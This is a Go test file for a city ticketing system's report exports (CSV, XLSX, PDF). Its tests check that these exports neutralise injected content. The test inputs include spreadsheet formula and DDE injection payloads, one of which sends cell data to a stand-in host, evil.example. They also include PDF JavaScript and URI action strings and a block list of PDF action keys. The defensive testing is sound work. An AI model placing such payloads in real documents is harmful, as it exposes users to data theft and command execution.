package report

import (
	"bytes"
	"compress/zlib"
	"encoding/csv"
	"io"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"

	"github.com/xuri/excelize/v2"

	"github.com/sistem48/system48/ticketing/lang"
	"github.com/sistem48/system48/ui/components"
	"github.com/sistem48/system48/ui/locale"
)

var sampleNow = time.Date(2026, 11, 24, 9, 14, 0, 0, time.UTC)

func printer(t *testing.T, tag lang.Tag) *locale.Printer {
	t.Helper()
	c, err := locale.Load()
	if err != nil {
		t.Fatal(err)
	}
	zone, err := time.LoadLocation("Europe/Podgorica")
	if err != nil {
		t.Fatal(err)
	}
	return c.Printer(tag, zone, func() time.Time { return sampleNow })
}

// sample is a report with the figures of the design; name is what the city
// calls its first category.
func sample(t *testing.T, name string) document {
	t.Helper()
	p := printer(t, lang.SrLatn)
	axis := func(s float64) string { return p.Percent(s, 0) }
	target := components.Target{Share: 0.9, Label: "cilj 90 %"}
	bars := components.ShareBars("Po kategoriji", []components.ShareBar{
		{Label: name, Figure: "91 % od 105", Part: 96, Of: 105, Href: "/reports/t"},
		{Label: "Veoma dugačko ime kategorije koje ne staje", Figure: "93 % od 44", Part: 41, Of: 44},
		{Label: "Zimsko održavanje", Figure: "0", Of: 0},
	}, target, axis)
	weeks := components.Trend("Po sedmicama", []components.TrendPoint{
		{Label: "26. 10.", Share: 0.88}, {Label: "2. 11.", Share: 0.93}, {Label: "9. 11.", None: true}, {Label: "16. 11.", Share: 0.9},
	}, target, axis)
	parts := components.Portions("Legovi", []components.Portion{
		{Label: "Mi 46 %", Note: "1 d 4 h", Class: "b1", Part: 46},
		{Label: "Građanin 17 %", Note: "10 h", Class: "ba", Part: 17},
		{Label: "Drugi organi 37 %", Note: "23 h", Class: "b3", Part: 37},
	})
	heat := components.HeatView{Caption: "Kad stižu", Days: strings.Fields("pon uto sri čet pet sub ned")}
	heat.Cells[1][10], heat.Cells[4][23] = 16, 3
	heat.Hours()
	return document{
		print: p, title: "Putevi – kako držimo riječ", period: "1–23. novembar 2026.", asOf: "Podaci do 24. 11. u 10:14, poređenje: 1–23. oktobar", foot: "Sistem 48",
		page: "strana {n} od {all}", overview: "Pregled", section: "Odjeljak", row: "Red", measure: "Mjera", value: "Vrijednost", unit: "Jedinica", units: map[cellKind]string{cellCount: "broj", cellShare: "udio", cellSpan: "sekunde", cellInstant: "vrijeme"}, part: "Brojilac", whole: "Imenilac", formula: "Formula",
		figures: []figure{
			{name: "Odgovoreno u roku", value: shareCell(203, 224), part: 203, whole: 224, of: "203 od 224 dospjelih", formula: "Ispunjeno do roka ÷ svi satovi odgovora dospjeli u periodu", main: true, trend: trend{text: "+2,1", good: 1}},
			{name: "Vrijeme do odgovora, P50 / P90", value: spanCell(310 * time.Minute), second: spanCell(31 * time.Hour), of: "218 odgovora", formula: "Medijana i 90. percentil"},
			{name: "Otvoreno sada", value: countCell(64), of: "od toga", late: "7 kasni", formula: "Otvoreni na 24. 11. u 10:00"},
		},
		parts: []part{
			{title: "Po kategoriji", note: "cilj 90 %", drawing: &bars, table: table{
				columns: []string{"Kategorija", "U roku", "Dospjelo", "%", "Medijana", "Rok"},
				rows: [][]cell{
					{textCell(name), countCell(96), countCell(105), shareCell(96, 105), spanCell(90 * time.Minute), instantCell(sampleNow)},
					{textCell("Otpad"), countCell(0), countCell(0), shareCell(0, 0), {}, {}},
				},
				foot: []cell{textCell("Ukupno"), countCell(96), countCell(105), shareCell(96, 105), {}, {}},
			}},
			{title: "Po sedmicama", drawing: &weeks},
			{title: "Kod koga prolazi vrijeme", drawing: &parts},
			{title: "Kad stižu prijave", heat: &heat},
		},
	}
}

// formulas are texts a spreadsheet would compute, and one it must leave readable.
var formulas = []string{
	`=HYPERLINK("http://evil.example/"&A1,"otvori")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "  =1+1", "\u200b=1+1", "＝1+1",
	`DDE("cmd";"/C calc";"x")`, "+382 67 000 418", "plain, with \"quotes\"\nand a line",
}

// TestCSVComputesNothing holds A18: no text of a download starts as a formula,
// and a telephone number keeps its digits.
func TestCSVComputesNothing(t *testing.T) {
	t.Parallel()
	d := sample(t, "x")
	list := table{columns: []string{"Predmet"}}
	for _, f := range formulas {
		list.rows = append(list.rows, []cell{textCell(f)})
	}
	var b bytes.Buffer
	if err := writeListCSV(&b, d, list); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, b.Bytes())
	for i, f := range formulas {
		got := rows[i+1][0]
		if c := strings.TrimLeftFunc(got, unicode.IsSpace); strings.ContainsAny(c[:1], "=+-@＝") {
			t.Errorf("%q is written as %q: a spreadsheet computes it", f, got)
		}
		// The reader joins \r\n and drops a lone \r; nothing else may be lost.
		if plain := strings.NewReplacer("'", "", "\r", ""); plain.Replace(f) != plain.Replace(got) {
			t.Errorf("%q came back as %q", f, got)
		}
	}
	if got := rows[11][0]; got != "'+382 67 000 418" {
		t.Errorf("the telephone number is %q", got)
	}
}

// TestCSVComputesNothingWhereItIsSplit holds A18 for programs that split a line at
// a semicolon or a tab, with no regard to quotes within it, and at line breaks.
func TestCSVComputesNothingWhereItIsSplit(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"RV;=1+1;x": "RV;'=1+1;x", "a;b": "a;b", "a; +1;;@x": "a;' +1;;'@x", "a\t=1+1": "a\t'=1+1", "a\n-2": "a\n'-2", `a;"=1+1"`: `a;'"=1+1"`,
		"a;\u200b＝1": "a;'\u200b＝1", "=1;=2": "'=1;'=2", "a;\n=1": "a;'\n'=1", "-2": "-2", "-2;3": "'-2;3", "x;-2": "x;'-2", "a;'=1": "a;'=1", "a;": "a;", ";=1": ";'=1",
	} {
		if got := harmless(in); got != want {
			t.Errorf("harmless(%q) = %q, want %q", in, got, want)
		}
	}
	list := table{columns: []string{"Odjel", "Predmet"}, rows: [][]cell{{textCell("Putevi"), textCell(`RV;=1+1;"=2+2";,` + "\r\n=3+3\t=4+4")}}}
	var b bytes.Buffer
	if err := writeListCSV(&b, sample(t, "x"), list); err != nil {
		t.Fatal(err)
	}
	for _, c := range strings.FieldsFunc(b.String(), func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		if c = strings.Trim(c, `" `); strings.HasPrefix(c, "=") {
			t.Errorf("a cell computes: %q", c)
		}
	}
}

// TestXLSXComputesNothing holds A18: texts are cells of text, none has a formula.
func TestXLSXComputesNothing(t *testing.T) {
	t.Parallel()
	d := sample(t, `=cmd|' /C calc'!A0`)
	d.title, d.parts[1].title = "=1+1", `[=HYPERLINK("x")]:*?/\`
	list := table{columns: []string{"=A1"}}
	for _, f := range formulas {
		list.rows = append(list.rows, []cell{textCell(f)})
	}
	d.parts[1].table = list
	var b bytes.Buffer
	if err := writeXLSX(&b, d); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	texts := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, value := range row {
				name, err := excelize.CoordinatesToCellName(c+1, r+1)
				if err != nil {
					t.Fatal(err)
				}
				if formula, err := f.GetCellFormula(sheet, name); err != nil || formula != "" {
					t.Errorf("%s!%s computes %q (%v)", sheet, name, formula, err)
				}
				kind, err := f.GetCellType(sheet, name)
				if strings.ContainsAny(value, "=") && (err != nil || kind != excelize.CellTypeInlineString) {
					t.Errorf("%s!%s is %q of type %d (%v)", sheet, name, value, kind, err)
				}
				texts[value] = true
			}
		}
	}
	for _, want := range []string{"+382 67 000 418", "@SUM(1+1)", "=1+1"} {
		if !texts[want] {
			t.Errorf("%q is not readable in the workbook", want)
		}
	}
	if n := len(f.GetSheetList()); n != len(d.parts)+1 {
		t.Errorf("%d sheets", n)
	}
}

// TestXLSXKeepsTypes checks that shares, durations and instants are numbers a
// spreadsheet can go on with.
func TestXLSXKeepsTypes(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := writeXLSX(&b, sample(t, "Udarne rupe")); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"A5": "Udarne rupe", "B5": "96", "D5": "91.4%", "E5": "1:30", "F5": "24.11.2026 10:14"} {
		if got, err := f.GetCellValue("Po kategoriji", cell); err != nil || got != want {
			t.Errorf("%s = %q (%v), want %q", cell, got, err, want)
		}
	}
	for cell, want := range map[string]string{"B6": "0.90625", "C6": "203", "D6": "224"} {
		if got, err := f.GetCellValue("Pregled", cell, excelize.Options{RawCellValue: true}); err != nil || got != want {
			t.Errorf("%s = %q (%v), want %q", cell, got, err, want)
		}
	}
}

func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	text, marked := strings.CutPrefix(string(body), byteOrderMark)
	if !marked {
		t.Error("the text does not say that it is UTF-8")
	}
	r := csv.NewReader(strings.NewReader(text))
	rows, err := r.ReadAll() // and every row has the same number of fields (RFC 4180)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func TestCSVHasEveryFigure(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := writeCSV(&b, sample(t, "Udarne rupe")); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "\r\n") {
		t.Error("lines do not end in CR LF")
	}
	want := []string{
		"Pregled,Odgovoreno u roku,,0.9062,udio,203,224", "Pregled,\"Vrijeme do odgovora, P50 / P90\",p90,111600,sekunde,,",
		"Po kategoriji,Udarne rupe,%,0.9143,udio,,", "Po kategoriji,Udarne rupe,Rok,2026-11-24T10:14:00+01:00,vrijeme,,", "Po kategoriji,Otpad,%,,,,",
	}
	for _, w := range want {
		if !strings.Contains(b.String(), w+"\r\n") {
			t.Errorf("%q is missing in\n%s", w, b.String())
		}
	}
	readCSV(t, b.Bytes())
}

// pages gives the contents of the streams of a PDF, and the rest of it.
func pages(t *testing.T, pdf []byte) (contents, rest string) {
	t.Helper()
	var c, r strings.Builder
	at := 0
	for _, m := range regexp.MustCompile(`(?s)stream\n(.*?)\nendstream`).FindAllSubmatchIndex(pdf, -1) {
		r.Write(pdf[at:m[0]])
		at = m[1]
		if z, err := zlib.NewReader(bytes.NewReader(pdf[m[2]:m[3]])); err == nil {
			if body, err := io.ReadAll(z); err == nil {
				c.Write(body)
			}
		}
	}
	r.Write(pdf[at:])
	return c.String(), r.String()
}

// inPDF is how the words stand in a stream: UTF-16, with its own characters escaped.
func inPDF(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u >> 8))
		b.WriteByte(byte(u))
	}
	return strings.NewReplacer(`\`, `\\`, `(`, `\(`, `)`, `\)`, "\r", `\r`).Replace(b.String())
}

// TestPDFWritesTheLanguagesOfTheCity checks that the words of all four are in
// the PDF and that both faces have a letter for each of them.
func TestPDFWritesTheLanguagesOfTheCity(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"Čišćenje šahtova, žurno, đubre", "Чишћење шахтова, ђубре, Љубовић, џеп, њива", "Ndriçimi publik, ngrohjë", "Śiljak, iźesti"} {
		var b bytes.Buffer
		d := sample(t, name)
		if err := writePDF(&b, d, sampleNow); err != nil {
			t.Fatal(err)
		}
		contents, rest := pages(t, b.Bytes())
		if !strings.Contains(contents, inPDF(name)) {
			t.Errorf("%q is not in the PDF", name)
		}
		if printable(name) != name {
			t.Errorf("%q is written as %q", name, printable(name))
		}
		for _, want := range []string{"203 od 224 dospjelih", "strana 1 od", "91 % od 105"} {
			if !strings.Contains(contents, inPDF(want)) {
				t.Errorf("%q is not in the PDF", want)
			}
		}
		if !strings.Contains(rest, "/FontFile2") {
			t.Error("the face is not embedded")
		}
		if b.Len() > 200_000 {
			t.Errorf("the PDF has %d bytes", b.Len())
		}
	}
}

// TestPDFIsOnlyPaper holds A23: whatever a name says, the PDF has no script, no
// link, no action, and letters the faces lack become a box.
func TestPDFIsOnlyPaper(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		`<script>alert(1)</script>`, `) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (`, `\) ET endstream endobj 9 0 obj << /URI (http://evil.example) >>`,
		"zdravo\u202egnp.exe\u0000\u0007", "\U0001f600 سلام 漢字 \uffff\ud7ff", "{n}{all}{nb}", strings.Repeat("Vrlo dugo ime ", 400), "",
	} {
		d := sample(t, name)
		d.title, d.period, d.asOf, d.parts[0].note, d.foot = name, name, name, name, name
		var b bytes.Buffer
		if err := writePDF(&b, d, sampleNow); err != nil {
			t.Fatalf("%q: %v", name, err)
		}
		_, rest := pages(t, b.Bytes())
		for _, forbidden := range []string{"/JavaScript", "/JS", "/URI", "/Launch", "/OpenAction <", "/AA", "/Filespec", "/SubmitForm"} {
			if strings.Contains(strings.ReplaceAll(rest, "/OpenAction [", ""), forbidden) {
				t.Errorf("%.40q puts %s into the PDF", name, forbidden)
			}
		}
		if !bytes.HasSuffix(bytes.TrimSpace(b.Bytes()), []byte("%%EOF")) {
			t.Errorf("%.40q: the PDF does not end", name)
		}
	}
}

// TestPDFForEyes leaves the sample where SYSTEM48_TEST_KEEP points, for looking at it.
func TestPDFForEyes(t *testing.T) {
	t.Parallel()
	dir := os.Getenv("SYSTEM48_TEST_KEEP")
	if dir == "" {
		t.Skip("SYSTEM48_TEST_KEEP is not set")
	}
	f, err := os.Create(dir + "/report.pdf")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := writePDF(f, sample(t, "Udarne rupe"), sampleNow); err != nil {
		t.Fatal(err)
	}
}
